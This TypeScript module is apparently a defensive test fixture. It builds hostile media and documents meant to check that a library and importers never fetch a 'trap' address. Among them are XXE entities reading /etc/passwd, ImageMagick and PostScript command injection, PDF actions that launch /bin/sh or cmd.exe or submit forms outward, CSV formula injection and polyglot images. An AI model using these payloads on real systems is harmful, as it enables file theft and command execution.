/** A file that would have its reader do something for it: `trap` is an address that is never to be asked. */
export interface HostileFile {
  name: string;
  contentType: string;
  content: (trap: string) => string | Buffer;
}

const SECRET = 'file:///etc/passwd';
const file = (name: string, contentType: string, content: HostileFile['content']): HostileFile => ({
  name,
  contentType,
  content,
});

/** One white pixel. */
export const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mP8/x8AAwMCAO+ip1sAAAAASUVORK5CYII=',
  'base64',
);

/** For the library: pictures and recordings that are programs, lists, or two things at once. */
export const HOSTILE_MEDIA: readonly HostileFile[] = [
  file('a playlist', 'video/mp4', (trap) => `#EXTM3U\n#EXTINF:1,\n${trap}/a.ts\n#EXTINF:1,\n${SECRET}\n`),
  file('a playlist of a key', 'video/mp2t', (trap) => `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${trap}/key"\na.ts\n`),
  file('a list to join', 'video/mp4', (trap) => `ffconcat version 1.0\nfile '${trap}/a.mp4'\nfile '/etc/passwd'\n`),
  file('a drawing', 'image/png', (trap) => drawing(`<image href="${trap}/a.png"/><image href="${SECRET}"/>`)),
  file('a drawing with a script', 'image/svg+xml', (trap) => drawing(`<script href="${trap}/a.js"/>`)),
  file(
    'a drawing of an outer entity',
    'image/svg+xml',
    () => `<!DOCTYPE svg [<!ENTITY e SYSTEM "${SECRET}">]>${drawing('<text>&e;</text>')}`,
  ),
  file(
    'orders for ImageMagick',
    'image/jpeg',
    (trap) => `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${trap}/a.jpg"|id; ")'\npop graphic-context`,
  ),
  file('a label of a file', 'image/png', () => 'label:@/etc/passwd'),
  file('PostScript', 'image/jpeg', () => '%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file closefile showpage\n'),
  file('a PDF for a picture', 'image/png', () => '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>'),
  file('a page', 'image/gif', () => '<!doctype html><script>fetch("/")</script>'),
  file('a script that is a picture', 'image/gif', () => Buffer.from('GIF89a/*\0\0*/=1;alert(1)//;')),
  file('an archive behind a picture', 'image/png', () =>
    Buffer.concat([PIXEL, Buffer.from('PK\x05\x06'), Buffer.alloc(18)]),
  ),
  file('a page behind a picture', 'image/png', () => Buffer.concat([PIXEL, Buffer.from('<script>alert(1)</script>')])),
];

/** Of those, what begins as a real picture: it is kept as the picture alone. */
export const TWO_THINGS: ReadonlySet<string> = new Set(['an archive behind a picture', 'a page behind a picture']);

/** For sources: documents that open, fetch, send or start something. */
export const HOSTILE_SOURCES: readonly HostileFile[] = [
  ...[
    ['JavaScript', () => '/OpenAction<</S/JavaScript/JS(this.submitForm\\(app.doc.path\\))>>'],
    ['a program', () => '/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>'],
    ['an address', (trap: string) => `/OpenAction<</S/URI/URI(${trap}/opened)>>`],
    ['a form to send', (trap: string) => `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${trap}/sent)>>>>`],
    ['another file', () => `/OpenAction<</S/GoToR/F(${SECRET})/D[0/Fit]>>`],
    ['a form of XML', (trap: string) => `/AcroForm<</XFA(<x xmlns:h="${trap}/x"><submit target="${trap}"/></x>)>>`],
  ].map(([what, catalogue]) =>
    file(`a PDF that opens ${String(what)}`, 'application/pdf', (trap) =>
      pdf({ catalogue: (catalogue as (trap: string) => string)(trap) }),
    ),
  ),
  file('a PDF whose page lies elsewhere', 'application/pdf', (trap) =>
    pdf({ content: `<</F<</FS/URL/F(${trap}/page)>>/Length 0>>\nstream\n\nendstream` }),
  ),
  file('a PDF whose page is a local file', 'application/pdf', () =>
    pdf({ content: '<</F(/etc/passwd)/Length 0>>\nstream\n\nendstream' }),
  ),
  file('a PDF whose font runs code', 'application/pdf', () =>
    pdf({ font: '/FontMatrix[0.1 0 0 0.1 0 (1\\); process.exit\\(1\\);//)]' }),
  ),
  file(
    'a feed of an outer entity',
    'application/rss+xml',
    () =>
      `<!DOCTYPE rss [<!ENTITY e SYSTEM "${SECRET}">]><rss version="2.0"><channel><title>&e;</title><item><title>The wait is 17 minutes &e;</title></item></channel></rss>`,
  ),
  file(
    'a feed of an outer table of entities',
    'application/rss+xml',
    (trap) =>
      `<!DOCTYPE rss SYSTEM "${trap}/a.dtd"><rss version="2.0"><channel><title>Wait</title><item><title>17 minutes</title></item></channel></rss>`,
  ),
  file(
    'a page that asks for others',
    'text/html',
    (trap) =>
      `<html lang="en"><head><base href="${trap}/"><meta http-equiv="refresh" content="0;url=${trap}/r"><link rel="stylesheet" href="${trap}/a.css"></head><body><iframe src="${SECRET}"></iframe><script src="${trap}/a.js"></script><p>The wait at the gate is 17 minutes.</p></body></html>`,
  ),
  file(
    'a table of formulas',
    'text/csv',
    (trap) => `gate,wait\n=WEBSERVICE("${trap}/f"),17\n@SUM(1+1)*cmd|' /C calc'!A0,18\n`,
  ),
];

function drawing(inside: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${inside}</svg>`;
}

const WORDS = 'BT /F 12 Tf 40 200 Td (The wait at the gate is 17 minutes.) Tj ET';

function pdf({ catalogue = '', font = '', content }: { catalogue?: string; font?: string; content?: string }): string {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 300]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>',
    content ?? `<</Length ${WORDS.length}>>\nstream\n${WORDS}\nendstream`,
    `<</Type/Font/Subtype/Type1/BaseFont/Helvetica${font}>>`,
  ];
  const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('');
  return `%PDF-1.7\n${body}trailer<</Root 1 0 R/Size 6>>\n%%EOF\n`;
}
